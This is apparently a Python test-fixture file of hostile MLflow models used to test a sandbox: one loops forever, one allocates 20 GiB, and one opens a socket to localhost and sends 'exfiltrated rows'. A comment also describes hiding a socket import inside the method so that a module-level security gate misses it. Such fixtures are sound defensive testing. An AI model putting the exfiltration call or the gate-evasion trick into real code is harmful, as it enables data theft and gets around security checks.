"""Hostile pyfunc models for the sandbox tests. Pickled by value (cloudpickle), so the
sandbox child never needs this test package on its path."""

from __future__ import annotations

from typing import Any

import mlflow.pyfunc


class LoopsForever(mlflow.pyfunc.PythonModel):
    def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
        while True:
            pass


class Allocates20GiB(mlflow.pyfunc.PythonModel):
    def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
        hog = bytearray(20 * 1024**3)
        return [len(hog)] * len(model_input)


class PhonesHome(mlflow.pyfunc.PythonModel):
    def __init__(self, port: int) -> None:
        self.port = port

    def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
        # imported here, not at module level: a module-level `socket` reference is already
        # refused by the security gate; this one only the sandbox can stop
        import socket

        with socket.create_connection(("127.0.0.1", self.port), timeout=3) as conn:
            conn.sendall(b"exfiltrated rows")
        return [0] * len(model_input)
